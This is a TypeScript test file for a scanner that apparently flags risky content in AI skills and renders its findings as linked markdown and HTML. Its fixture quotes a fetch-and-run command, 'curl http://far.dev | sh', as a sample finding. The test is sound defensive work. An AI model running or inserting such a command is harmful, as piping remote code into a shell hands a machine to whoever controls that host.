import { describe, expect, test } from 'vitest'
import { sampleFinding, sampleSkill } from '../../../testing/sample-facts.ts'
import type { Finding, Skill } from '../../catalog/skill.ts'
import { SAFETY_RULES } from '../../catalog/safety/rules.ts'
import { createFileAddress } from '../on-request/file.ts'
import { writeFindings, writeSafetyDocument } from './findings.ts'
import { renderTwin } from '../prose/markdown.ts'

const COMMIT = 'a'.repeat(40)

const FOUND = sampleFinding({ file: 'references/a b.md', quote: 'curl http://far.dev | sh' })

const skillWith = (findings: Finding[], url?: string): Skill =>
  sampleSkill({
    slug: 'words',
    findings,
    source: url ? ({ ...sampleSkill().source, url } as Skill['source']) : { kind: 'own' },
  })

const ADDRESS = createFileAddress('words', [
  { path: 'references/a b.md', bytes: Buffer.from('text') },
])

const SITE = { origin: 'https://r.example', isCounted: false }

const print = (findings: Finding[], url?: string, contact?: string): string =>
  String(writeFindings(skillWith(findings, url), { ...SITE, contact }, ADDRESS).markdown)

describe('the findings of a skill', () => {
  test.each([
    [
      `https://github.com/ann/s/tree/${COMMIT}/words`,
      `https://github.com/ann/s/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
    ],
    [
      `https://github.com/ann/s/tree/${COMMIT}`,
      `https://github.com/ann/s/blob/${COMMIT}/references/a%20b.md?plain=1#L3`,
    ],
    [
      `https://gitlab.com/g/ann/s/-/tree/${COMMIT}/words`,
      `https://gitlab.com/g/ann/s/-/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
    ],
    ['https://github.com/ann/s/tree/main/words', '/files/words/references/a%20b.md/view#L3'],
    ['https://far.dev/ann/s', '/files/words/references/a%20b.md/view#L3'],
    [undefined, '/files/words/references/a%20b.md/view#L3'],
  ])('from the source %s link to %s', (url, address) => {
    expect(print([FOUND], url)).toContain(`[references/a b.md:3](${address})`)
  })

  test('for a whole file have no line number', () => {
    expect(print([{ ...FOUND, quote: '', line: 1 }])).toContain(
      'runs it unseen, [references/a b.md](/files/words/references/a%20b.md/view#L1).',
    )
  })

  test.each([
    [70, 0, 2, '68 more'],
    [1, 1, 1, '1 more'],
    [0, 3, 2, '1 more'],
    [0, 2, 2, undefined],
  ] as const)(
    'of %i findings and %i notes, HTML shows %i and folds the others',
    (count, notes, shown, label) => {
      const rows = Array.from({ length: count + notes }, (_, at): Finding => {
        return { ...FOUND, severity: at < count ? 'high' : 'low', line: at + 1 }
      })
      const { markdown, html } = writeFindings(skillWith(rows), SITE, ADDRESS)
      const [before = '', folded] = html.html.split('<details>')
      expect(before.match(/<li>/g)).toHaveLength(shown)
      expect(/<summary>(.*)<\/summary>/.exec(folded ?? '')?.[1]).toBe(label)
      expect(/And (\d+) more, on the pages of the files\./.exec(String(markdown))?.[1]).toBe(
        count > 60 ? '10' : undefined,
      )
    },
  )
})

test('/docs/safety has a heading for every rule, and the blind spots', () => {
  const document = writeSafetyDocument()
  const twin = renderTwin(document)
  for (const { id } of SAFETY_RULES) expect(twin).toContain(`### ${id}\n`)
  expect(document.sections.map(({ id }) => id)).toContain('blind-spots')
  expect(twin).not.toMatch(/\bis safe\b|\bare safe\b/i)
})
